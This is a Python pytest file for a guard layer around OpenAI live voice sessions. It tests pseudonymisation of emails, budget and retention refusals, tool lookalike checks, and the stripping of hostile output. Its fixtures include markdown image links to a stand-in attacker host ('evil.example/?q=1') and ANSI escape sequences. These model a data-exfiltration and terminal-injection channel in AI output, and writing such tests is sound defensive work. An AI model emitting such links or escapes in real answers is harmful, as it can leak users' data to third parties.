"""OpenAI's live sessions: speech and transcripts belong to the session, handed-on work is a call for each answer."""

# SPDX-License-Identifier: Apache-2.0
from __future__ import annotations

import base64
import importlib.util
import json
import threading

import pytest
from sockets_support import MAIL, limited

import openai
import safellm
from safellm._core.placeholder import PREFIX
from safellm.errors import Reason

if importlib.util.find_spec("openai.resources.live") is None:
    pytest.skip("this SDK has no live sessions", allow_module_level=True)

AUDIO = base64.b64encode(b"\x00\x01" * 450).decode()
APPEND = {"type": "session.input_audio.append", "audio": AUDIO}
ADDRESS = "https://evil.example"
FIND = {
    "type": "function", "name": "find", "parameters": {
        "type": "object", "properties": {"who": {"type": "string"}}, "required": ["who"], "additionalProperties": False,
    },
}  # fmt: skip
HANDS_ON = {"type": "responses", "responses": {"model": "gpt-5", "instructions": "Be quick.", "tools": [FIND]}}


def start(face, server, session=None, **options):
    """Return a session that has started."""
    connection = face.open(face.client(server, **options).live.connect())
    face.run(connection.send({"type": "session.start", "session": {"model": "gpt-live-1", **(session or {})}}))
    face.until(connection, "session.started")
    return connection


def heard(face, connection):
    """Send speech and close the session; return the transcript of the answer."""
    face.run(connection.send(APPEND))
    face.run(connection.send({"type": "session.close"}))
    events = face.until(connection, "session.closed")
    return "".join(one.delta for one in events if one.type == "session.output_transcript.delta")


def ask(face, connection, text):
    """Have the backend answer; return the events of its answer."""
    part = {"type": "input_text", "text": text}
    item = {"type": "message", "role": "user", "content": [part]}
    face.run(connection.send({"type": "response.item.create", "item": item}))
    face.run(connection.send({"type": "response.create", "event_id": "mine"}))
    return answer(face, connection)


def answer(face, connection):
    """Return the events of the next handed-on answer."""
    found = []
    while not found or found[-1]["type"] not in ("response.completed", "response.failed"):
        event = face.run(connection.recv())
        if event.type == "response.event":
            found.append(event.event)
    return found


def work(*events, delegation="d1"):
    """Return events of an answer as the session brings them."""
    return [
        {"type": "response.event", "event_id": f"e{n}", "delegation_id": delegation, "event": one}
        for n, one in enumerate(events)
    ]


def call_of(arguments, name="find"):
    """Return the events of an answer that calls a tool."""
    item = {
        "type": "function_call",
        "id": "fc_1",
        "call_id": "c_1",
        "name": name,
        "arguments": "",
        "status": "in_progress",
    }
    place = {"item_id": "fc_1", "output_index": 0}
    half = len(arguments) // 2
    return [
        {"type": "response.created", "response": {"id": "resp_1", "object": "response", "status": "in_progress"}},
        {"type": "response.output_item.added", "output_index": 0, "item": item},
        {"type": "response.function_call_arguments.delta", **place, "delta": arguments[:half]},
        {"type": "response.function_call_arguments.delta", **place, "delta": arguments[half:]},
        {"type": "response.function_call_arguments.done", **place, "arguments": arguments},
        {"type": "response.output_item.done", "output_index": 0, "item": {**item, "arguments": arguments}},
        {"type": "response.completed", "response": {
            "id": "resp_1", "object": "response", "status": "completed", "output": [],
            "usage": {"input_tokens": 5, "output_tokens": 3, "total_tokens": 8},
        }},
    ]  # fmt: skip


@pytest.mark.parametrize("size", [1, 4, 1000])
def test_transcripts_are_guarded_however_they_are_cut(face, sockets, size):
    """Links and controls are made harmless across pieces, and what was hidden at the start comes back."""
    connection = start(face, sockets, {"instructions": f"Write to {MAIL}"})
    hidden = sockets.last.events[0]["session"]["instructions"].removeprefix("Write to ")
    assert PREFIX in hidden
    sockets.cut = lambda text: [text[at : at + size] for at in range(0, len(text), size)]
    sockets.reply_with(f"to {hidden} \x1b[1m ![i]({ADDRESS}/?q=1) done")
    text = heard(face, connection)
    assert text.startswith(f"to {MAIL} ")
    assert "\x1b" not in text
    assert f"![i]({ADDRESS}" not in text
    assert text.endswith("done")


@pytest.mark.parametrize(
    "event",
    [
        {"type": "session.update", "session": {"delegation": {"type": "responses", "responses": {"instructions": MAIL}}}},
        {"type": "session.instructions.append", "content": MAIL, "delegation_id": None},
        {"type": "session.thinking.append", "content": MAIL, "delegation_id": None},
        {"type": "session.commentary.append", "content": MAIL, "delegation_id": None},
        {"type": "decision.item.create", "item": {"role": "user", "content": MAIL}},
        {"type": "response.item.create", "item": {"type": "function_call_output", "call_id": "c", "output": MAIL}},
        {"type": "session.output_audio.fixture.play", "audio": f"to {MAIL}"},
        {"type": "session.novelty", "text": MAIL},
    ],
    ids=lambda one: one["type"],
)  # fmt: skip
def test_what_the_program_says_is_hidden(face, sockets, event):
    """In every event that takes a text; what is called audio and is text is searched."""
    connection = start(face, sockets)
    face.run(connection.send(event))
    sockets.wait(2)
    assert MAIL not in sockets.last.messages[1]
    assert PREFIX in sockets.last.messages[1]


def test_handed_on_work_is_restored_and_billed(face, sockets, records, usage):
    """The backend's answer is a call of its own: pieces and whole texts agree, and its tokens are charged."""
    connection = start(face, sockets, {"delegation": HANDS_ON})
    sockets.reply_with(lambda _, said: f"You said: {said} \x1b[1m and {PREFIX}EMAIL-")  # the end could be one more
    events = ask(face, connection, f"I am {MAIL}")
    assert MAIL not in "".join(sockets.last.messages)
    said = "".join(one["delta"] for one in events if one["type"] == "response.output_text.delta")
    assert said.startswith(f"You said: I am {MAIL}")
    assert said.endswith(f"and {PREFIX}EMAIL-")
    assert "\x1b" not in said
    assert [one["text"] for one in events if one["type"] == "response.output_text.done"] == [said]
    assert events[-1]["response"]["output"][0]["content"][0]["text"] == said
    face.run(connection.close())
    done = [one for one in records() if one.get("gen_ai.operation.name") == "live response.create"]
    assert [one["event.name"] for one in done] == ["call.intent", "call.outcome"]
    assert done[1]["gen_ai.usage.input_tokens"] == 11
    assert done[1]["gen_ai.usage.output_tokens"] == 7
    assert sum(one.output_tokens for one in usage()) == 7


def test_work_that_the_session_hands_on_by_itself_is_a_call(face, sockets, records):
    """Nobody asked: recorded and charged, once for each answer, whatever comes in between."""
    connection = start(face, sockets, {"delegation": HANDS_ON})
    first, second = (work(*call_of('{"who": "me"}'), delegation=one) for one in ("d1", "d2"))
    mixed = [one for pair in zip(first, second, strict=True) for one in pair]
    sockets.push(mixed)
    for _ in mixed:
        face.run(connection.recv())
    face.run(connection.close())
    done = [one for one in records() if one.get("gen_ai.operation.name") == "live answer"]
    assert [one["event.name"] for one in done].count("call.intent") == 2
    assert [one.get("gen_ai.usage.output_tokens") for one in done if one["event.name"] == "call.outcome"] == [3, 3]


def test_an_error_settles_the_call_that_it_is_about(face, sockets, records):
    """The session goes on, and the next answer is the next call's."""
    connection = start(face, sockets, {"delegation": HANDS_ON})
    error = {"type": "invalid_request_error", "code": "no", "message": "no", "client_event_id": "mine"}
    sockets.reply_with([{"type": "error", "event_id": "e1", "error": error}])
    face.run(connection.send({"type": "response.create", "event_id": "mine"}))
    face.until(connection, "error")
    sockets.reply_with("better")
    assert ask(face, connection, "again")[-1]["type"] == "response.completed"
    face.run(connection.close())
    done = [one for one in records() if one.get("gen_ai.operation.name") == "live response.create"]
    assert [one["event.name"] for one in done].count("call.outcome") == 2


def test_a_1_calls_of_handed_on_work_pass_the_gate(face, sockets):
    """A declared call comes as a whole; of another tool nothing is told, and the session ends."""
    connection = start(face, sockets, {"delegation": HANDS_ON}, safellm={"tools": {"find": {"action": "allow"}}})
    sockets.push(work(*call_of('{"who": "me"}')))
    events = answer(face, connection)
    assert [one["arguments"] for one in events if one["type"] == "response.function_call_arguments.done"] == [
        '{"who": "me"}'
    ]
    sockets.push(work(*call_of('{"x": 1}', name="erase"), delegation="d2"))
    got = []
    with pytest.raises(openai.APIStatusError) as caught:
        while True:
            got.append(face.run(connection.recv()))
    assert isinstance(caught.value, safellm.Refused)
    assert caught.value.guard == "tools"
    assert "erase" not in json.dumps([one.to_dict() for one in got])


@pytest.mark.parametrize("size", [1, 5])
def test_a_1_arguments_of_handed_on_work_agree_with_their_pieces(face, sockets, size):
    """However they are cut, also where a value was hidden in them."""
    connection = start(face, sockets, {"delegation": HANDS_ON, "instructions": MAIL})
    hidden = sockets.last.events[0]["session"]["instructions"]
    text = json.dumps({"who": f"to {hidden} now"})
    events = call_of(text)
    pieces = [text[at : at + size] for at in range(0, len(text), size)]
    place = {"item_id": "fc_1", "output_index": 0}
    events[2:4] = [{"type": "response.function_call_arguments.delta", **place, "delta": piece} for piece in pieces]
    sockets.push(work(*events))
    found = answer(face, connection)
    said = "".join(one["delta"] for one in found if one["type"] == "response.function_call_arguments.delta")
    assert said == next(one["arguments"] for one in found if one["type"] == "response.function_call_arguments.done")
    assert said == next(one["item"]["arguments"] for one in found if one["type"] == "response.output_item.done")
    assert json.loads(said)["who"] in (f"to {MAIL} now", f"to {hidden} now")


def test_a_1_look_alikes_of_the_backend_are_refused(face, sockets):
    """Before the model sees them."""
    connection = face.open(face.client(sockets).live.connect())
    backend = {"model": "gpt-5", "tools": [FIND, {**FIND, "name": "\u0493ind"}, {**FIND, "name": "fi\u0578d"}]}
    session = {"model": "gpt-live-1", "delegation": {"type": "responses", "responses": backend}}
    with pytest.raises(safellm.Refused) as caught:
        face.run(connection.send({"type": "session.start", "session": session}))
    assert caught.value.reason == Reason.TOOL_LOOKALIKE


def test_a_1_tools_of_a_session_that_was_made_elsewhere_are_known(face, sockets):
    """The provider tells them; a sideband's program has said nothing."""
    connection = face.open(face.client(sockets).live.sideband.connect(session_id="live_1"))
    session = {"id": "live_1", "model": "gpt-live-1", "status": "active", "expires_at": 1, "delegation": HANDS_ON}
    sockets.push([{"type": "session.updated", "event_id": "e", "session": session}])
    face.until(connection, "session.updated")
    sockets.push(work(*call_of("{}", name="erase")))
    with pytest.raises(safellm.Refused) as caught:
        answer(face, connection)
    assert caught.value.reason == Reason.TOOL_UNKNOWN


def test_speech_is_passed_as_it_is(face, sockets, records):
    """Both ways, in every session; recorded once."""
    connection = start(face, sockets)
    sockets.reply_with([{"type": "session.output_audio.delta", "delta": AUDIO}])
    for _ in range(3):
        face.run(connection.send(APPEND))
    assert face.run(connection.recv()).delta == AUDIO
    sockets.wait(4)
    assert sockets.last.events[1] == APPEND
    face.run(connection.close())
    names = [one.get("gen_ai.operation.name") for one in records()]
    assert names.count("live session.input_audio.append") == 2  # intent and outcome of the first
    assert names.count("live") == 2


def test_budgets_in_tokens_refuse(face, sockets):
    """It is billed by the second, and nothing bounds it."""
    connection = face.open(face.client(sockets, safellm=limited(tokens=100_000)).live.connect())
    with pytest.raises(safellm.Refused) as caught:
        face.run(connection.send({"type": "session.start", "session": {"model": "gpt-live-1"}}))
    assert caught.value.reason == Reason.BUDGET_UNBOUNDED
    assert "by the second" in caught.value.remedy
    assert sockets.last.messages == []


def test_budgets_in_requests_hold(face, sockets):
    """The session is one, each handed-on answer is one."""
    connection = start(face, sockets, {"delegation": HANDS_ON}, safellm=limited(requests=2))
    ask(face, connection, "one")
    with pytest.raises(safellm.Refused) as caught:
        face.run(connection.send({"type": "response.create"}))
    assert caught.value.reason == Reason.BUDGET_EXCEEDED


@pytest.mark.parametrize("kind", ["fork", "attach"])
def test_forks_and_sidebands_are_guarded(face, sockets, kind):
    """The same protocol at another path; what the other side heard is passed as it is."""
    client = face.client(sockets)
    place = client.live.forks if kind == "fork" else client.live.sideband
    connection = face.open(place.connect(session_id="live_1"))
    assert sockets.last.path.partition("?")[0] == f"/v1/live/sessions/live_1/{kind}"
    face.run(connection.send({"type": "session.commentary.append", "content": MAIL, "delegation_id": None}))
    sockets.wait(1)
    assert MAIL not in sockets.last.messages[0]
    hidden = sockets.last.events[0]["content"]
    sockets.push(
        [
            {**APPEND},
            {
                "type": "session.input_transcript.delta",
                "event_id": "e",
                "delta": f"{hidden} and more",
                "start_ms": 0,
                "end_ms": 1,
            },
        ]
    )
    assert face.run(connection.recv()).audio == AUDIO
    assert face.run(connection.recv()).delta.startswith(MAIL)


def test_k_9_a_grant_for_one_model_holds_for_the_session_and_its_backend(sync, sockets):
    """Wherever the model is named."""
    client = sync.client(sockets)
    connection = sync.open(client.live.connect())
    with safellm.scope(model="gpt-live-*"):
        with pytest.raises(safellm.Refused) as caught:
            sync.run(
                connection.send({"type": "session.start", "session": {"model": "gpt-live-1", "delegation": HANDS_ON}})
            )
        assert caught.value.reason == Reason.GRANT_DENIED
        sync.run(connection.send({"type": "session.start", "session": {"model": "gpt-live-1"}}))
        sync.run(connection.send(APPEND))
    sockets.wait(2)


def test_nothing_is_kept_where_the_policy_says_so(face, sockets):
    """A stored session is refused, a name of somebody becomes a pseudonym."""
    connection = face.open(face.client(sockets, safellm={"retention": "none"}).live.connect())
    session = {"model": "gpt-live-1", "safety_identifier": "anna"}
    with pytest.raises(safellm.Refused) as caught:
        face.run(connection.send({"type": "session.start", "session": {**session, "store": True}}))
    assert caught.value.reason == Reason.RETENTION_DENIED
    face.run(connection.send({"type": "session.start", "session": session}))
    sockets.wait(1)
    assert sockets.last.events[0]["session"]["safety_identifier"] != "anna"


def test_unknown_events_are_refused_where_the_policy_says_so(face, sockets):
    """Else they are walked."""
    connection = start(face, sockets, safellm={"unknown_endpoints": "deny"})
    with pytest.raises(safellm.Refused) as caught:
        face.run(connection.send({"type": "session.novelty"}))
    assert caught.value.reason == Reason.MEDIATION_UNKNOWN


def test_e_10_a_session_of_the_plain_sdk_is_guarded(face, sockets):
    """Under `install`, by its address."""
    safellm.install()
    try:
        kind = openai.AsyncOpenAI if face.is_async else openai.OpenAI
        plain = face.keep(kind(base_url=sockets.base_url, api_key="k"))
        for open_one in (plain.live.connect, lambda: plain.live.sideband.connect(session_id="live_1")):
            connection = face.open(open_one())
            face.run(connection.send({"type": "session.thinking.append", "content": MAIL, "delegation_id": None}))
            sockets.wait(1)
            assert MAIL not in sockets.last.messages[0]
    finally:
        safellm.uninstall()


def test_every_event_of_the_sdk_is_known():
    """An event that a newer SDK adds fails here, and is placed in the table."""
    from typing import get_args

    from openai.types import live

    from safellm_openai.live import LiveDialect

    kinds = {
        get_args(one.model_fields["type"].annotation)[0]
        for union in (live.ClientEvent, live.ConnectClientEvent, live.ForkClientEvent)
        for one in get_args(get_args(union)[0])
    }
    assert len(kinds) > 10
    assert [one for one in sorted(kinds) if not LiveDialect().sent({"type": one}).route.known] == []


def test_the_provider_does_not_turn_text_into_json(face, sockets):
    """In JSON links stay: what the program set up says whether an answer is JSON."""
    connection = start(face, sockets, {"delegation": HANDS_ON})
    told = {"delegation": {"responses": {"text": {"format": {"type": "json_schema", "name": "x", "schema": {}}}}}}
    sockets.push([{"type": "session.updated", "event_id": "e", "session": told}])
    face.until(connection, "session.updated")
    sockets.reply_with(f"see ![i]({ADDRESS}/?q=1) now")
    events = ask(face, connection, "hello")
    assert f"![i]({ADDRESS}" not in json.dumps(events)
    assert f"![i]({ADDRESS}" not in "".join(one.get("delta", "") for one in events)


def test_the_reason_for_closing_is_harmless_to_a_program_that_sends(face, sockets):
    """It reads nothing, and hears of the end by what it can't send."""
    connection = start(face, sockets)
    closing = threading.Thread(target=sockets.close_all, args=(4001, f"![i]({ADDRESS}) \x1b[1m"))
    closing.start()  # it waits for the program's good-bye
    with pytest.raises(Exception, match="4001") as caught:
        while True:
            face.run(connection.send(APPEND))
    closing.join()
    assert "\x1b" not in str(caught.value)
    assert f"![i]({ADDRESS}" not in str(caught.value)
    assert f"![i]({ADDRESS}" not in str(connection._connection.close_reason)
